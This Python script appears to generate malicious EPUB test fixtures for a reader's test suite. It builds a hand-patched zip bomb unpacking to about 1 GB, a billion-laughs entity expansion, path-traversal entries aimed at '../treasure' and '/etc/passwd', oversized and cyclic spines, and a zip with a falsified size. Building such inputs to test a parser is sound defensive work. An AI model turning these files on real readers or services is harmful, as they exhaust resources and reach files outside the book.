"""Makes, in the current folder, EPUBs that mean harm (for sources.sh)."""
import struct
import zipfile
import zlib

CONTAINER = """<?xml version="1.0"?>
<container version="1.0"
 xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>
<rootfile full-path="c.opf" media-type="application/oebps-package+xml"/>
</rootfiles></container>"""

PACKAGE = """<?xml version="1.0"?>
<package version="3.0" xmlns="http://www.idpf.org/2007/opf">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/">
<dc:title>Harm</dc:title><dc:language>en</dc:language></metadata>
<manifest>%s</manifest><spine>%s</spine></package>"""

PAGE = """<?xml version="1.0"?>%s
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head>
<body><p>%s</p></body></html>"""


def epub(name, parts, names=None):
    """PARTS: names to contents; NAMES: what the package lists."""
    names = names or list(parts)
    items = "".join(
        '<item id="i%d" href="%s" media-type="application/xhtml+xml"/>'
        % (i, part) for i, part in enumerate(names))
    refs = "".join('<itemref idref="i%d"/>' % i for i in range(len(names)))
    with zipfile.ZipFile(name, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("mimetype", "application/epub+zip", zipfile.ZIP_STORED)
        out.writestr("META-INF/container.xml", CONTAINER)
        out.writestr("c.opf", PACKAGE % (items, refs))
        for part, text in parts.items():
            with out.open(part, "w", force_zip64=False) as entry:
                for piece in text if isinstance(text, list) else [text]:
                    entry.write(piece.encode())


def entities(count):
    lines = ['<!ENTITY e0 "ha ha ha ha ha ha ha ha ha ha">']
    for i in range(1, count):
        lines.append('<!ENTITY e%d "%s">' % (i, ("&e%d;" % (i - 1)) * 10))
    return "<!DOCTYPE html [%s]>" % "".join(lines)


def bomb(name, pages):
    """A part that unpacks to PAGES MB of spaces: the packed MB, over and over."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    space = b" " * 1000000
    once = packer.compress(space) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = once * pages + packer.flush()
    crc = 0
    for _ in range(pages):
        crc = zlib.crc32(space, crc)
    epub(name, {"a.xhtml": ""})
    with open(name, "r+b") as out:
        data = bytearray(out.read())
        # The empty part is followed by the directory: it grows in place.
        entry = data.rindex(b"PK\x03\x04")
        start = entry + 30 + struct.unpack_from("<H", data, entry + 26)[0]
        directory = data.index(b"PK\x01\x02")
        row = data.rindex(b"PK\x01\x02")
        end = data.rindex(b"PK\x05\x06")
        sums = struct.pack("<III", crc, len(packed), len(space) * pages)
        data[row + 16:row + 28] = sums
        struct.pack_into("<I", data, end + 16, start + len(packed))
        data[entry + 14:entry + 26] = sums
        data[entry + 6:entry + 8] = b"\0\0"
        data[row + 8:row + 10] = b"\0\0"
        out.seek(0)
        out.write(data[:start] + packed + data[directory:])


bomb("bomb.epub", 1000)
epub("crowd.epub", {"p%d.xhtml" % i: "" for i in range(20001)}, ["p0.xhtml"])
epub("escape.epub", {"a.xhtml": PAGE % ("", "inside"),
                     "../treasure": "outside"},
     ["a.xhtml", "../treasure", "treasure", "../in/treasure",
      "file:///etc/passwd", "/etc/passwd"])
epub("laughs.epub", {"a.xhtml": PAGE % (entities(10), "&e9;")})
epub("cycle.epub", {"a.xhtml": PAGE % ("", '<a href="a.xhtml">a</a>')},
     ["a.xhtml"] * 2000)

# The directory says that the part is four bytes long when unpacked.
epub("lie.epub", {"a.xhtml": PAGE % ("", "x" * 100000)})
with open("lie.epub", "r+b") as lie:
    data = bytearray(lie.read())
    at = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 4)
    lie.seek(0)
    lie.write(data)
